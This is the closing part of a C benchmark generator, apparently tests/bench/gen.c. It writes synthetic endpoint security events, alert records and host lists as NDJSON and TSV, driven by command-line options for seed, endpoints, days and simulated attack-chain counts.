	      "           [--tenant-id ID] [--verify] [--quiet] [--columns]\n"
	      "Writes realistic endpoint security events as native NDJSON (see the\n"
	      "comment at the top of tests/bench/gen.c).\n", f);
}

static FILE *open_out(const char *path)
{
	FILE *f = fopen(path, "w");
	if (f == NULL)
		die("%s: %s", path, strerror(errno));
	setvbuf(f, NULL, _IOFBF, 1 << 20);
	return f;
}

static long long num_arg(const char *name, const char *s, long long lo, long long hi)
{
	char *end;
	errno = 0;
	long long v = strtoll(s, &end, 10);
	if (errno != 0 || end == s || *end != '\0' || v < lo || v > hi)
		die("--%s: expected a number from %lld to %lld, not '%s'", name, lo, hi, s);
	return v;
}

static void write_alerts(const char *path)
{
	FILE *f = open_out(path);
	/* by detection time (insertion order breaks ties: stable enough, the
	 * list is built deterministically) */
	for (size_t i = 1; i < G.nalerts; i++) {
		struct alertrec a = G.alerts[i];
		size_t j = i;
		while (j > 0 && G.alerts[j - 1].at > a.at) {
			G.alerts[j] = G.alerts[j - 1];
			j--;
		}
		G.alerts[j] = a;
	}
	struct sb b = {0};
	for (size_t i = 0; i < G.nalerts; i++) {
		struct alertrec *a = &G.alerts[i];
		char det[40], rcv[40];
		ev_format_time(a->at * 1000, det, sizeof det);
		ev_format_time(a->recv * 1000, rcv, sizeof rcv);
		b.len = 0;
		sb_puts(&b, "{\"type\":\"alert\",\"host\":");
		sb_json(&b, G.eps[a->ep].host);
		sb_puts(&b, ",\"detected_at\":\"");
		sb_puts(&b, det);
		sb_puts(&b, "\",\"received_at\":\"");
		sb_puts(&b, rcv);
		sb_puts(&b, "\",\"path\":");
		sb_json(&b, a->path);
		sb_puts(&b, ",\"sha256\":");
		sb_json(&b, a->sha256);
		sb_puts(&b, ",\"detection\":");
		sb_json(&b, a->detection);
		sb_puts(&b, ",\"action\":");
		sb_json(&b, a->action);
		sb_puts(&b, "}\n");
		fwrite(b.p, 1, b.len, f);
	}
	free(b.p);
	if (fclose(f) != 0)
		die("%s: %s", path, strerror(errno));
}

static void write_hosts(const char *path)
{
	FILE *f = open_out(path);
	for (int i = 0; i < G.neps; i++) {
		char *key = ev_host_key(G.eps[i].host);
		fprintf(f, "%lld\t%lld\t%s\t%s\n", (long long)(G.ep_base + i),
		        (long long)G.tenant_id, key, G.eps[i].host);
		free(key);
	}
	if (fclose(f) != 0)
		die("%s: %s", path, strerror(errno));
}

int main(int argc, char **argv)
{
	enum { O_SEED = 256, O_EPS, O_DAYS, O_PERDAY, O_START, O_ALERTS, O_COPY,
	       O_HOSTS, O_BASE, O_TENANT, O_VERIFY, O_CHAINS, O_QUIET, O_COLUMNS };
	static const struct option lo[] = {
		{"seed", required_argument, NULL, O_SEED},
		{"endpoints", required_argument, NULL, O_EPS},
		{"days", required_argument, NULL, O_DAYS},
		{"per-day", required_argument, NULL, O_PERDAY},
		{"start", required_argument, NULL, O_START},
		{"alerts", required_argument, NULL, O_ALERTS},
		{"copy-text", required_argument, NULL, O_COPY},
		{"hosts", required_argument, NULL, O_HOSTS},
		{"endpoint-base", required_argument, NULL, O_BASE},
		{"tenant-id", required_argument, NULL, O_TENANT},
		{"chains", required_argument, NULL, O_CHAINS},
		{"verify", no_argument, NULL, O_VERIFY},
		{"quiet", no_argument, NULL, O_QUIET},
		{"columns", no_argument, NULL, O_COLUMNS},
		{"output", required_argument, NULL, 'o'},
		{"help", no_argument, NULL, 'h'},
		{NULL, 0, NULL, 0},
	};
	uint64_t seed = 1;
	long long neps = 1000, days = 8, per_day = 10000, nch = -1;
	const char *start = "2024-03-04", *outp = NULL, *alertp = NULL, *copyp = NULL, *hostp = NULL;
	int quiet = 0, c;
	G.ep_base = 1;
	G.tenant_id = 1;
	while ((c = getopt_long(argc, argv, "o:h", lo, NULL)) != -1) {
		switch (c) {
		case O_SEED: seed = (uint64_t)num_arg("seed", optarg, 0, INT64_MAX); break;
		case O_EPS: neps = num_arg("endpoints", optarg, 1, 1000000); break;
		case O_DAYS: days = num_arg("days", optarg, 1, 366); break;
		case O_PERDAY: per_day = num_arg("per-day", optarg, 1, 10000000); break;
		case O_START: start = optarg; break;
		case O_ALERTS: alertp = optarg; break;
		case O_COPY: copyp = optarg; break;
		case O_HOSTS: hostp = optarg; break;
		case O_BASE: G.ep_base = num_arg("endpoint-base", optarg, 1, INT32_MAX); break;
		case O_TENANT: G.tenant_id = num_arg("tenant-id", optarg, 1, INT32_MAX); break;
		case O_CHAINS: nch = num_arg("chains", optarg, 0, 1000000); break;
		case O_VERIFY: G.verify = 1; break;
		case O_QUIET: quiet = 1; break;
		case O_COLUMNS: puts(gen_columns); return 0;
		case 'o': outp = optarg; break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (optind != argc) {
		usage(stderr);
		return 2;
	}
	char t0[40];
	int64_t us;
	snprintf(t0, sizeof t0, "%.10sT00:00:00Z", start);
	if (strlen(start) != 10 || ev_parse_time(t0, &us) < 0)
		die("--start: expected YYYY-MM-DD, not '%s'", start);
	G.win_start = us / 1000;
	if (G.verify)
		map_columns();
	G.win_end = G.win_start + days * DAY;
	if (nch < 0) {
		nch = neps * days / 50;
		if (nch < 60)
			nch = 60;
	}

	for (size_t i = 0; i < NELEM(exes); i++)
		file_hashes(&exes[i], 0);
	for (size_t i = 0; i < NELEM(dlls); i++)
		file_hashes(&dlls[i].f, 0);
	for (int64_t t = G.win_start; t < G.win_end; t += SLICE) {
		W_ws += weight(0, t);
		W_srv += weight(1, t);
	}

	G.out = outp != NULL ? open_out(outp) : stdout;
	if (outp == NULL)
		setvbuf(stdout, NULL, _IOFBF, 1 << 20);
	G.copy = copyp != NULL ? open_out(copyp) : NULL;
	G.neps = (int)neps;
	G.eps = calloc((size_t)neps, sizeof *G.eps);
	if (G.eps == NULL)
		die("out of memory");
	G.slice_end = G.win_start;
	for (int i = 0; i < G.neps; i++)
		init_ep(&G.eps[i], i, seed, (double)per_day, (int)days);
	plan_chains(seed, (int)nch, (int)days);
	for (int i = 0; i < G.neps; i++)
		qsort(G.eps[i].sch, G.eps[i].nsch, sizeof *G.eps[i].sch, sched_cmp);
	if (hostp != NULL)
		write_hosts(hostp);

	for (int64_t ss = G.win_start; ss < G.win_end; ss += SLICE) {
		int64_t se = ss + SLICE < G.win_end ? ss + SLICE : G.win_end;
		G.slice_end = se;
		while (G.npend > 0 && G.pend[0].ts < se)
			cur_push(heap_pop());
		for (int i = 0; i < G.neps; i++)
			run_slice(&G.eps[i], ss, se);
		for (int i = 0; i < G.neps; i++)
			end_scan(&G.eps[i], se);
		flush_slice();
		for (int i = 0; i < G.neps; i++)
			purge(&G.eps[i]);
	}
	if (fflush(G.out) != 0 || (G.out != stdout && fclose(G.out) != 0))
		die("%s: %s", outp != NULL ? outp : "stdout", strerror(errno));
	if (G.copy != NULL && fclose(G.copy) != 0)
		die("%s: %s", copyp, strerror(errno));
	if (alertp != NULL)
		write_alerts(alertp);

	if (!quiet) {
		fprintf(stderr, "gen: %d endpoints x %lld days, %" PRIu64 " events (%.0f per endpoint-day), %zu alerts\n",
		        G.neps, days, G.written, (double)G.written / (double)neps / (double)days, G.nalerts);
		fputs("gen: kinds:", stderr);
		for (int k = 0; k < EV_KIND_COUNT; k++)
			if (G.kinds[k] != 0)
				fprintf(stderr, " %s %.1f%%", ev_kind_name((enum ev_kind)k),
				        100.0 * (double)G.kinds[k] / (double)G.written);
		fputs("\ngen: chains run:", stderr);
		for (int k = 0; k < C_COUNT; k++)
			fprintf(stderr, " %s %d", chain_names[k], chain_counts[k]);
		fputc('\n', stderr);
		if (G.verify)
			fprintf(stderr, "gen: verify: %" PRIu64 " of %" PRIu64 " rows differ from the ingest's encoding\n",
			        G.verify_bad, G.written);
	}

	for (int i = 0; i < G.neps; i++) {
		struct ep *e = &G.eps[i];
		for (size_t j = 0; j < e->nlive; j++)
			proc_free(e->live[j]);
		for (int f = 0; f < F_NEXE; f++)
			free(e->img[f]);
		free(e->live);
		free(e->bykind);
		free(e->atab);
		free(e->acum);
		free(e->sch);
		free(e->persist);
	}
	free(G.eps);
	for (size_t i = 0; i < ndropped; i++) {
		free((char *)dropped[i]->path);
		free(dropped[i]);
	}
	free(dropped);
	for (size_t i = 0; i < G.nalerts; i++) {
		free(G.alerts[i].path);
		free(G.alerts[i].detection);
	}
	free(G.alerts);
	free(chains);
	free(G.arena.p);
	free(G.cur);
	free(G.pend);
	free(G.j.p);
	free(G.h.p);
	free(G.t.p);
	free(G.x.p);
	free(G.line.p);
	free(G.row.p);
	db_copy_free(&G.vb);
	return G.verify && G.verify_bad != 0 ? 1 : 0;
}
